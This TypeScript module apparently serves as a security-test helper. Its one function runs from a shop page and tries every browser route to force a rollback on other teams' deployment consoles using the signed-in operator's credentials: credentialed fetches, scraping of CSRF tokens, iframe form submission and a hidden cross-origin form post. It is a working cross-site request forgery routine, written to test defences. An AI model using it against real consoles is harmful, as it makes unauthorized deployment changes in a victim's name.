/** What a hostile remote wants: this version of another team's remote live again, by one of these consoles. */
export interface Attack {
  readonly consoles: readonly string[];
  readonly remote: string;
  readonly version: string;
}

/**
 * Tries to confirm a rollback in the name of the signed-in operator, in every way a script has: by requests that read
 * the response, by requests that do not, by a frame and by a form. It runs in the page of the shop and uses nothing but
 * the browser.
 */
export async function rollBackFromThePage({ consoles, remote, version }: Attack): Promise<void> {
  const move = { type: 'rollback', remote, version };
  const valueIn = (html: string, name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(html)?.[1] ?? '';
  for (const address of consoles) {
    const question = `${address}/move?${new URLSearchParams(move)}`;
    const html = await fetch(question, { credentials: 'include' })
      .then((answer) => answer.text())
      .catch(() => '');
    const form = new URLSearchParams({ ...move, reason: 'attack', seen: valueIn(html, 'seen'), csrf: valueIn(html, 'csrf') });
    for (const mode of ['cors', 'no-cors'] as const)
      await fetch(`${address}/move`, { method: 'POST', credentials: 'include', mode, body: form }).catch(() => null);
    const frame = document.createElement('iframe');
    frame.src = question;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 3000))]);
    try {
      frame.contentDocument?.querySelector<HTMLFormElement>('form[action$="/move"]')?.submit();
    } catch {
      // Another origin.
    }
    frame.name = 'target';
    const sent = document.createElement('form');
    Object.assign(sent, { method: 'post', action: `${address}/move`, target: 'target' });
    for (const [name, value] of form) {
      const input = document.createElement('input');
      Object.assign(input, { type: 'hidden', name, value });
      sent.append(input);
    }
    document.body.append(sent);
    sent.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  document.documentElement.dataset['attack'] = 'over';
}
